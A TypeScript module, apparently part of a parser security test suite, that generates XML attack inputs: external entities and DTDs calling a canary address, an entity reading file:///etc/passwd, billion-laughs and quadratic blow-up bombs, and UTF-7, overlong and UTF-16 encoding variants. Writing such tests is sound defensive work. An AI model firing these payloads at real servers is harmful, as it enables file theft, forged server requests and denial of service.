/** XML that tries to make the server read a file, call an address or grow without limit. */
export function xmlAttacks(message: string, canary: string): Record<string, string> {
  const declared = (dtd: string, xml = message) => `<!DOCTYPE a ${dtd}>${xml}`
  const put = (inner: string) => message.replace(/(<\/[^<>]+>)$/, (_, tag: string) => inner + tag)
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')
  return {
    'external entity': declared(`[<!ENTITY x SYSTEM "${canary}/entity">]`, put('<x>&x;</x>')),
    'external entity of a file': declared('[<!ENTITY x SYSTEM "file:///etc/passwd">]', put('<x>&x;</x>')),
    'external entity in an attribute': declared(`[<!ENTITY x SYSTEM "${canary}/attribute">]`, put('<x a="&x;"/>')),
    'parameter entity': declared(`[<!ENTITY % x SYSTEM "${canary}/parameter"> %x;]`),
    'public entity': declared(`[<!ENTITY x PUBLIC "-//X//X" "${canary}/public">]`, put('<x>&x;</x>')),
    'external DTD': declared(`SYSTEM "${canary}/dtd"`),
    'public DTD': declared(`PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${canary}/public-dtd"`),
    'default attribute': declared(`[<!ATTLIST a b CDATA "${canary}/attlist">]`),
    notation: declared(`[<!NOTATION n SYSTEM "${canary}/notation"><!ENTITY x SYSTEM "${canary}/unparsed" NDATA n>]`),
    'style sheet': `<?xml-stylesheet type="text/xsl" href="${canary}/style"?>${message}`,
    'billion laughs': declared(`[<!ENTITY a0 "lol">${laughs}]`, put('<x>&a9;</x>')),
    'quadratic blow-up': declared(`[<!ENTITY x "${'x'.repeat(20_000)}">]`, put(`<x>${'&x;'.repeat(5000)}</x>`)),
    'entity within itself': declared('[<!ENTITY x "&y;"><!ENTITY y "&x;">]', put('<x>&x;</x>')),
    'entity nobody declared': put('<x>&nbsp;</x>'),
  }
}

/** The same message in bytes that are not UTF-8. */
export const otherBytes = (xml: string): Record<string, Buffer> => {
  const le = Buffer.from(xml, 'utf16le')
  const be = Buffer.from(le).swap16()
  const utf16 = Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le')
  return {
    'UTF-16 LE with its mark': Buffer.concat([Buffer.from([0xff, 0xfe]), le]),
    'UTF-16 BE with its mark': Buffer.concat([Buffer.from([0xfe, 0xff]), be]),
    'UTF-16 LE without': le,
    'UTF-16 BE without': be,
    'UTF-16 that says so': utf16,
    'UTF-16 that says so, with its mark': Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]),
    'four bytes for each sign': Buffer.concat([
      Buffer.from([0xff, 0xfe, 0, 0]),
      Buffer.from(Uint32Array.from(xml, sign => sign.codePointAt(0)!).buffer),
    ]),
    'UTF-7': Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${xml.replaceAll('<', '+ADw-')}`),
    'UTF-8 with a byte order mark': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml)]),
    overlong: Buffer.concat([Buffer.from(xml.slice(0, -1)), Buffer.from([0xc0, 0xbe])]),
    'Latin-1': Buffer.from(xml.replace(/(<\/[^<>]+>)$/, 'é$1'), 'latin1'),
  }
}
